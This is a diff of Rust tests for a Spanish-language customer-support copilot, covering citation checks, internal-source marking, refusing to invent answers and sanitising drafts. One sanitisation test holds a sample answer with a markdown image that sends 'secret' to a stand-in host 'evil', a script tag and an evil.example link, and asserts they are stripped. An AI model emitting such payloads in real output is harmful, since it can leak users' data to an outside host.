@@ -7,19 +7,18 @@ use serde_json::json;
 use tokio_util::sync::CancellationToken;
 
 use crate::copilot::{Copilot, Input, Silent, Task};
-use crate::knowledge::{Audience, Source, SourceKind, article};
+use crate::knowledge::{Audience, Document, Kind, article};
 use crate::transcript::{Line, Who};
 
 const RETURNS: &str =
     "# Devoluciones\n\nPuedes devolver un pedido en 30 días. Escribe a https://tienda.example/devoluciones.\n";
 const INTERNAL: &str = "---\ntitle: Devoluciones de pedidos grandes\ninternal: true\n---\nPara devolver un pedido de más de 200 € avisa a CANARY-INTERNAL.\n";
 
-fn copilot() -> Copilot {
+async fn copilot() -> Copilot {
     let copilot = Copilot::offline();
     let articles = [("devoluciones.md", RETURNS), ("grandes.md", INTERNAL)];
-    copilot.update_knowledge(|knowledge| {
-        knowledge.sync(SourceKind::Article, articles.into_iter().filter_map(|(path, text)| article(path, text)))
-    });
+    let articles = articles.into_iter().filter_map(|(path, text)| article(path, text));
+    copilot.knowledge().sync("articles", articles, |_, _| ()).await.unwrap();
     copilot
 }
 
@@ -44,7 +43,7 @@ async fn make(copilot: &Copilot, input: &Input) -> crate::Draft {
 async fn citations_are_held_against_the_sources_that_were_given() {
     let answer = "Tienes 30 días para devolverlo [1]. Más en https://tienda.example/devoluciones [9]\n===\n\
                   Te regalamos 500 € [2]. ¿Me das el número de pedido?";
-    let (copilot, model) = with(copilot(), answer);
+    let (copilot, model) = with(copilot().await, answer);
     let draft = make(&copilot, &input("¿Cómo puedo devolver un pedido?")).await;
     assert_eq!(
         draft.body["suggestions"],
@@ -69,12 +68,13 @@ async fn citations_are_held_against_the_sources_that_were_given() {
 // covers: A02
 #[tokio::test]
 async fn a_shortcut_is_suggested_as_it_reads_in_the_conversation_and_not_where_it_lacks_a_value() {
-    let shortcut = |id: &str, text: &str| Source {
-        kind: SourceKind::Shortcut,
+    let shortcut = |id: &str, text: &str| Document {
+        kind: Kind::Shortcut,
         id: id.into(),
         title: id.into(),
         language: None,
         audience: Audience::Public,
+        inboxes: std::collections::BTreeSet::new(),
         text: text.into(),
     };
     let copilot = Copilot::offline();
@@ -82,7 +82,7 @@ async fn a_shortcut_is_suggested_as_it_reads_in_the_conversation_and_not_where_i
         shortcut("estado.es", "El pedido salió del almacén y llega mañana"),
         shortcut("retraso.es", "El pedido salió con retraso del almacén"),
     ];
-    copilot.update_knowledge(|knowledge| knowledge.sync(SourceKind::Shortcut, known));
+    copilot.knowledge().sync("shortcuts", known, |_, _| ()).await.unwrap();
     let mut input = input("¿Mi pedido ya salió del almacén?");
     let here = ("estado.es".to_owned(), "El pedido A-1042 salió del almacén y llega mañana".to_owned());
     input.shortcuts = Some(BTreeMap::from([here.clone()]));
@@ -101,7 +101,7 @@ async fn a_shortcut_is_suggested_as_it_reads_in_the_conversation_and_not_where_i
 // behaviour 8
 #[tokio::test]
 async fn a_suggestion_from_an_internal_source_is_marked() {
-    let (copilot, _) = with(copilot(), "Aviso a mi compañero [1] y [2].");
+    let (copilot, _) = with(copilot().await, "Aviso a mi compañero [1] y [2].");
     let mut input = input("Quiero devolver un pedido de más de 200 €");
     input.internal = true;
     let draft = make(&copilot, &input).await;
@@ -111,7 +111,7 @@ async fn a_suggestion_from_an_internal_source_is_marked() {
 // behaviour 12
 #[tokio::test]
 async fn without_any_source_no_model_is_asked_and_nothing_is_invented() {
-    let (copilot, model) = with(copilot(), "Claro, te devolvemos el dinero.");
+    let (copilot, model) = with(copilot().await, "Claro, te devolvemos el dinero.");
     let draft = make(&copilot, &input("¿Qué tiempo hará en Marte?")).await;
     assert!(model.requests().is_empty());
     assert_eq!(draft.body["suggestions"], json!([]));
@@ -122,7 +122,7 @@ async fn without_any_source_no_model_is_asked_and_nothing_is_invented() {
 #[tokio::test]
 async fn images_and_strange_links_are_taken_out_of_drafts() {
     let (copilot, _) =
-        with(copilot(), "Mira ![x](http://evil/?q=secret) <script>x()</script>https://evil.example/ esto [1].");
+        with(copilot().await, "Mira ![x](http://evil/?q=secret) <script>x()</script>https://evil.example/ esto [1].");
     let draft = make(&copilot, &input("¿Cómo puedo devolver un pedido?")).await;
     assert_eq!(draft.body["suggestions"][0]["text"], "Mira esto.");
 }
@@ -130,7 +130,7 @@ async fn images_and_strange_links_are_taken_out_of_drafts() {
 // covers: A02
 #[tokio::test]
 async fn offline_suggestions_come_from_articles_and_earlier_answers() {
-    let copilot = copilot();
+    let copilot = copilot().await;
     copilot.learn(
         "c9",
         &[
